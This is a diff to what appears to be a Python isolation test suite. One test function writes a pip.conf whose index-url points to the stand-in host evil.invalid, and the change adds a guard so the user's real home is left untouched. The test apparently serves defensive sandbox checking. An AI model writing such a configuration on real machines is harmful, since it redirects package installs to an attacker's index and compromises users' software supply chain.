@@ -196,7 +196,9 @@ def forged_pip(view):
 
 def own_configuration(view):
     """A program writes pip's configuration into its home; the installer has another one."""
-    code = ("import os; p = os.path.expanduser('~/.config/pip'); os.makedirs(p, exist_ok=True);"
+    # In the user's real home, should it be there, nothing is written.
+    code = (f"import os; os.path.lexists({str(view.home_file)!r}) and {view.inside} and os._exit(1);"
+            " p = os.path.expanduser('~/.config/pip'); os.makedirs(p, exist_ok=True);"
             " open(p + '/pip.conf', 'w').write('[global]\\nindex-url = http://evil.invalid/\\n')")
     if not view.inside:
         home = view.parent / "pip-home"
